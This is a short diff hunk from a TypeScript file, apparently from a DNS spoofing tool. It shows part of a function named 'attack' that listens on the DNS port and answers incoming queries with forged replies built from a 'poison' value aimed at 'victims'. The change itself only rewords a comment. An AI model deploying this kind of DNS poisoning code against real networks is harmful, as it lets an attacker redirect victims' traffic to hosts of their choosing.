@@ -61,7 +61,7 @@ async function socketOn(port: number): Promise<Socket> {
 async function attack({ seconds, victims, names, poison, known }: Attack): Promise<void> {
   const resolver = await socketOn(DNS);
   const other = await socketOn(0);
-  // Whoever asks is answered: so this is a DNS server, in a way.
+  // It answers every query, like a DNS server.
   resolver.on("message", (message, { address, port }) => {
     if (message.length > 12 && (message[2] ?? 0) < 128) {
       const reply = answer(message.readUInt16BE(0), names[0] ?? "", poison.slice(0, 1), FLAGS.answer);
